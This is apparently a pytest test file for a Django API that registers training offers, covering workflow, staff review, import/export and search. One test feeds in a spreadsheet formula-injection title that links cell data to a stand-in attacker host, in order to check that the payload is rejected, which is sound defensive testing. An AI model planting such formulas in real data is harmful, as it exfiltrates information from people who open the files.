# SPDX-License-Identifier: EUPL-1.2
"""The register API: search, the provider's own offers, the workflow, import and export.

Needs the router in llo.api.api (``api.add_router("", "llo.register.api.router")``).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client

from llo.people.models import User
from llo.register.models import Offer, OfferState, Opleider
from tests.register.conftest import establish

from .test_import import DESCRIPTION, ooapi_file

pytestmark = pytest.mark.django_db

PROBLEM = "application/problem+json"


def offer_body(**changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "code": "VIG-MED",
        "offerType": "course",
        "title": "Medicatie voor verzorgenden",
        "description": DESCRIPTION,
        "levelOfQualification": "eqf_3",
        "studyLoad": {"value": 24, "studyLoadUnit": "hour"},
        "leadsTo": "none",
        "legalStatus": "cursist",
        "modesOfDelivery": ["presential"],
        "gemeenten": ["GM0599"],
        "feeCents": 45_000,
        "examFeeCents": 5_000,
        "offerings": [{"startDate": "2026-10-05", "capacity": 16}],
    }
    body.update(changes)
    return body


@pytest.fixture
def vakwerk(make_provider: Callable[..., Opleider]) -> Opleider:
    return make_provider("Academie Vakwerk", kvk="90000009")


@pytest.fixture
def as_vakwerk(
    client: Client, vakwerk: Opleider, provider_user: Callable[[Opleider], User]
) -> Client:
    client.force_login(provider_user(vakwerk))
    return client


@pytest.fixture
def other_client(
    make_provider: Callable[..., Opleider], provider_user: Callable[[Opleider], User]
) -> Client:
    other = make_provider("Concurrent BV", kvk="80009999")
    c = Client()
    c.force_login(provider_user(other))
    return c


@pytest.fixture
def as_staff(staff_user: User) -> Client:
    c = Client()
    c.force_login(staff_user)
    return c


def post(client: Client, path: str, data: Any) -> Any:
    return client.post(path, data=json.dumps(data), content_type="application/json")


def put(client: Client, path: str, data: Any) -> Any:
    return client.put(path, data=json.dumps(data), content_type="application/json")


def test_a_provider_creates_submits_and_publishes_an_offer(
    as_vakwerk: Client, vakwerk: Opleider
) -> None:
    establish(vakwerk)
    created = post(as_vakwerk, "/api/v1/offers", offer_body())
    assert created.status_code == 201, created.content
    offer = created.json()
    assert offer["state"] == "draft"
    assert offer["priceCents"] == 50_000
    assert offer["price"] == "€ 500,00"
    assert offer["allowedActions"] == ["submit"]
    submitted = post(as_vakwerk, f"/api/v1/offers/{offer['id']}/transitions", {"action": "submit"})
    assert submitted.status_code == 200, submitted.content
    # No flags: approved by the admission checks at once.
    assert submitted.json()["state"] == "approved"
    published = post(as_vakwerk, f"/api/v1/offers/{offer['id']}/transitions", {"action": "publish"})
    assert published.json()["state"] == "published"
    found = Client().get("/api/v1/offers", {"q": "medicatie"}).json()
    assert [i["id"] for i in found["items"]] == [offer["id"]]
    assert found["facets"]["level"][3]["count"] == 1


def test_a_blocked_submission_names_the_reasons(as_vakwerk: Client) -> None:
    created = post(as_vakwerk, "/api/v1/offers", offer_body(description="Kort.", gemeenten=[]))
    response = post(
        as_vakwerk, f"/api/v1/offers/{created.json()['id']}/transitions", {"action": "submit"}
    )
    assert response.status_code == 422
    assert response["Content-Type"] == PROBLEM
    names = {p["name"] for p in response.json()["invalidParams"]}
    assert names == {"description", "gemeenten"}
    assert Offer.objects.get().state == OfferState.DRAFT


def test_a_title_like_a_spreadsheet_formula_is_a_named_problem(as_vakwerk: Client) -> None:
    """Issue 14, finding 4: refused at admission, named in invalidParams."""
    title = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    created = post(as_vakwerk, "/api/v1/offers", offer_body(title=title))
    response = post(
        as_vakwerk, f"/api/v1/offers/{created.json()['id']}/transitions", {"action": "submit"}
    )
    assert response.status_code == 422
    assert response["Content-Type"] == PROBLEM
    body = response.json()
    assert body["code"] == "checks-failed"
    assert [(p["name"], p["code"]) for p in body["invalidParams"]] == [("title", "title-formula")]
    assert Offer.objects.get().state == OfferState.DRAFT


def test_a_provider_can_never_touch_another_providers_offer(
    as_vakwerk: Client, other_client: Client
) -> None:
    offer_id = post(as_vakwerk, "/api/v1/offers", offer_body()).json()["id"]
    assert (
        put(other_client, f"/api/v1/offers/{offer_id}", offer_body(title="Gekaapt")).status_code
        == 404
    )
    assert (
        post(
            other_client, f"/api/v1/offers/{offer_id}/transitions", {"action": "submit"}
        ).status_code
        == 404
    )
    assert (
        post(
            other_client, f"/api/v1/offers/{offer_id}/offerings", {"startDate": "2027-01-01"}
        ).status_code
        == 404
    )
    assert other_client.get(f"/api/v1/offers/{offer_id}").status_code == 404  # a draft
    # Another provider's organisation is "not found" like its objects (issue 14).
    assert other_client.get("/api/v1/providers/90000009/offers").status_code == 404
    assert other_client.get("/api/v1/providers/90000009/export").status_code == 404
    response = other_client.post(
        "/api/v1/providers/90000009/imports",
        data=json.dumps(ooapi_file()),
        content_type="application/json",
    )
    assert response.status_code == 404
    assert Offer.objects.get().title == "Medicatie voor verzorgenden"


def test_changing_the_price_keeps_the_old_one(as_vakwerk: Client, vakwerk: Opleider) -> None:
    establish(vakwerk)
    offer_id = post(as_vakwerk, "/api/v1/offers", offer_body()).json()["id"]
    post(as_vakwerk, f"/api/v1/offers/{offer_id}/transitions", {"action": "submit"})
    post(as_vakwerk, f"/api/v1/offers/{offer_id}/transitions", {"action": "publish"})
    changed = put(as_vakwerk, f"/api/v1/offers/{offer_id}", offer_body(feeCents=55_000))
    assert changed.status_code == 200, changed.content
    assert changed.json()["state"] == "published"
    assert changed.json()["version"] == 2
    versions = Client().get(f"/api/v1/offers/{offer_id}/versions").json()
    assert [v["priceCents"] for v in versions] == [50_000, 60_000]


def test_staff_review_and_public_removal(
    as_vakwerk: Client, as_staff: Client, make_provider: Callable[..., Opleider], make_offer: Any
) -> None:
    other = make_provider("Ander")
    for i in range(5):
        make_offer(other, f"Medicatie {i}", fee_cents=40_000 + i * 1000, level="eqf_3")
    # Far above the band of similar offers: flagged, so it waits for review.
    offer_id = post(as_vakwerk, "/api/v1/offers", offer_body(feeCents=900_000)).json()["id"]
    response = post(as_vakwerk, f"/api/v1/offers/{offer_id}/transitions", {"action": "submit"})
    assert response.json()["state"] == "submitted"
    queue = as_staff.get("/api/v1/review-queue").json()
    assert [i["id"] for i in queue] == [offer_id]
    assert queue[0]["checks"][0]["code"] == "price-much-higher"
    assert as_vakwerk.get("/api/v1/review-queue").status_code == 403
    assert (
        post(
            as_vakwerk, f"/api/v1/offers/{offer_id}/transitions", {"action": "approve"}
        ).status_code
        == 403
    )
    refused = post(as_staff, f"/api/v1/offers/{offer_id}/transitions", {"action": "remove"})
    assert refused.status_code == 422
    removed = post(
        as_staff,
        f"/api/v1/offers/{offer_id}/transitions",
        {"action": "remove", "reason": "De prijs is misleidend."},
    )
    assert removed.json()["state"] == "removed"
    public = Client().get(f"/api/v1/offers/{offer_id}").json()
    assert public["removalReason"] == "De prijs is misleidend."
    assert "checks" not in public or public["checks"] == []


def test_suspending_a_provider_hides_its_offers(
    vakwerk: Opleider, as_staff: Client, make_offer: Any
) -> None:
    make_offer(vakwerk, "Heftruck certificaat")
    assert Client().get("/api/v1/offers", {"q": "heftruck"}).json()["total"] == 1
    refused = put(as_staff, "/api/v1/providers/90000009/status", {"status": "suspended"})
    assert refused.status_code == 422
    response = put(
        as_staff,
        "/api/v1/providers/90000009/status",
        {"status": "suspended", "reason": "Keurmerk ingetrokken."},
    )
    assert response.status_code == 200
    assert Client().get("/api/v1/offers", {"q": "heftruck"}).json()["total"] == 0
    provider = Client().get("/api/v1/providers/90000009").json()
    assert provider["status"] == "suspended"
    assert provider["statusReason"] == "Keurmerk ingetrokken."


def test_import_through_the_api_and_export(as_vakwerk: Client, vakwerk: Opleider) -> None:
    from llo.register.models import QualityMark

    QualityMark.objects.create(opleider=vakwerk, kind="ocw", valid_from="2020-01-01")
    establish(vakwerk)
    response = as_vakwerk.post(
        "/api/v1/providers/90000009/imports?publish=true",
        data=json.dumps(ooapi_file()),
        content_type="application/json",
    )
    assert response.status_code == 200, response.content
    assert response.json()["summary"]["published"] == 2
    exported = as_vakwerk.get("/api/v1/providers/90000009/export")
    document = json.loads(b"".join(exported.streaming_content))
    assert {c["primaryCode"]["code"] for c in document["courses"]} == {"MC-LAS", "ESTABLISHED"}
    as_csv = as_vakwerk.get("/api/v1/providers/90000009/export", {"format": "csv"})
    assert as_csv.status_code == 200
    assert as_csv["Content-Type"] == "text/csv; charset=utf-8"
    lines = b"".join(as_csv.streaming_content).decode("utf-8-sig").splitlines()
    assert lines[0].startswith("code;offerType;title;description;")
    assert [line.split(";")[0] for line in lines[1:]] == ["P-MT4", "ESTABLISHED", "MC-LAS"]
    assert as_vakwerk.get("/api/v1/providers/90000009/export", {"format": "xml"}).status_code == 400


def test_a_bad_import_is_a_problem_with_the_report(as_vakwerk: Client) -> None:
    payload = ooapi_file()
    payload["courses"][0]["ext"]["levelOfQualification"] = "eqf_11"
    response = as_vakwerk.post(
        "/api/v1/providers/90000009/imports",
        data=json.dumps(payload, indent=2),
        content_type="application/json",
    )
    assert response.status_code == 422
    assert response["Content-Type"] == PROBLEM
    body = response.json()
    assert body["code"] == "import-invalid"
    assert body["invalidParams"][0]["name"].startswith("line ")
    assert body["invalidParams"][0]["name"].endswith(": levelOfQualification")
    assert body["report"]["written"] is False
    assert Offer.objects.count() == 0


def test_a_large_import_is_202_and_a_job_whose_result_is_the_report(
    as_vakwerk: Client, vakwerk: Opleider, settings: Any
) -> None:
    from django.core.management import call_command

    from llo.core.models import AuditEntry, Job

    settings.LLO_JOB_INLINE_BYTES = 10
    response = as_vakwerk.post(
        "/api/v1/providers/90000009/imports?submit=false",
        data=json.dumps(ooapi_file()),
        content_type="application/json",
    )
    assert response.status_code == 202, response.content
    job = Job.objects.get()
    body = response.json()
    assert (body["id"], body["kind"], body["status"]) == (job.pk, "register.import", "queued")
    assert response["Location"] == f"/api/v1/jobs/{job.pk}"
    assert job.params == {
        "kvk": "90000009",
        "content_type": "application/json",
        "submit": False,
        "publish": False,
    }
    assert AuditEntry.objects.filter(action="job.queued", subject_id=str(job.pk)).exists()
    assert Offer.objects.count() == 0  # nothing is read in the request
    call_command("run_jobs", once=True)
    done = as_vakwerk.get(response["Location"]).json()
    assert done["status"] == "done", done
    assert done["result"]["ok"] is True
    assert done["result"]["summary"]["created"] == 2
    assert set(Offer.objects.values_list("state", flat=True)) == {OfferState.DRAFT}


def test_csv_import_through_the_api(as_vakwerk: Client) -> None:
    body = (
        "code,offerType,title,description,levelOfQualification,studyLoad,studyLoadUnit,leadsTo,"
        "modesOfDelivery,gemeenten,fee\n"
        f'X1,course,Excel voor het mkb,"{DESCRIPTION}",eqf_3,12,hour,none,online,,"249,00"\n'
    )
    response = as_vakwerk.post(
        "/api/v1/providers/90000009/imports", data=body, content_type="text/csv"
    )
    assert response.status_code == 200, response.content
    assert Offer.objects.get().fee_cents == 24_900


def test_search_parameters(as_vakwerk: Client, vakwerk: Opleider, make_offer: Any) -> None:
    make_offer(vakwerk, "Boekhouding basis", fee_cents=45_050)
    client = Client()
    assert client.get("/api/v1/offers", {"q": "boekhoudng"}).json()["corrections"] == [
        {"typed": "boekhoudng", "searchedFor": "boekhouding"}
    ]
    assert client.get("/api/v1/offers", {"maxPrice": "450.49"}).json()["total"] == 0
    assert client.get("/api/v1/offers", {"maxPrice": "450.50"}).json()["total"] == 1
    bad = client.get("/api/v1/offers", {"level": "eqf_9"})
    assert bad.status_code == 400
    assert bad["Content-Type"] == PROBLEM
    bad = client.get("/api/v1/offers", {"region": "XX"})
    assert bad.status_code == 400
    assert bad.json()["invalidParams"][0]["name"].startswith("region")
    assert client.get("/api/v1/offers", {"startTo": "0"}).status_code == 400
    past_the_window = client.get("/api/v1/offers", {"page": "600", "pageSize": "100"})
    assert past_the_window.status_code == 200
    assert past_the_window.json()["items"] == []
    bad = client.get("/api/v1/offers", {"maxPrice": "12,345"})
    assert bad.status_code == 400


def test_not_logged_in_cannot_create(client: Client) -> None:
    response = post(client, "/api/v1/offers", offer_body())
    assert response.status_code == 401
    assert response["Content-Type"] == PROBLEM
